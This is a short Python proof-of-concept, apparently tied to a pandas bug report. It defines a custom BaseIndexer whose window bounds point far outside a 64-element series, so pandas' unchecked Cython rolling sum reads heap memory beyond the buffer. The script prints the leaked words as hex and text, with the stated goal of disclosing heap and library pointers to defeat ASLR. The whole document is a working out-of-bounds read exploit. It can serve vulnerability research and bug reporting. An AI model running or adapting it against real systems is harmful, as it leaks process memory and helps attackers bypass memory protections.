# source: pandas issue #61753 (VariableWindowIndexer.get_window_bounds segfault) and pandas window/aggregations.pyx (boundscheck(False)); pandas only checks len(start)/len(end), not their values
# family: extension hook the library calls back - a public pandas.api.indexers.BaseIndexer subclass returns window bounds outside the data; cython roll_sum reads them unchecked
# goal: out-of-bounds read of process heap memory (raw words, heap/library pointers -> ASLR disclosure); same primitive the check refuses for MultiIndex(verify_integrity=False) / copy(codes=)
import numpy as np
import pandas as pd
from pandas.api.indexers import BaseIndexer


class Far(BaseIndexer):
    def get_window_bounds(self, num_values=0, min_periods=None, center=None, closed=None, step=None):
        start = np.arange(num_values, dtype=np.int64) + self.off
        end = start + 1
        return start, end


s = pd.Series(np.zeros(64))
for off in (-4000, 1000):
    words = s.rolling(Far(window_size=1, off=off), min_periods=0).sum().values.view(np.int64)
    print("offset", off, "raw words outside the 64-element buffer:", [hex(int(w)) for w in words[:6]])
    print("   as text:", repr(words.tobytes().decode("utf-16-le", "replace")[:120]))
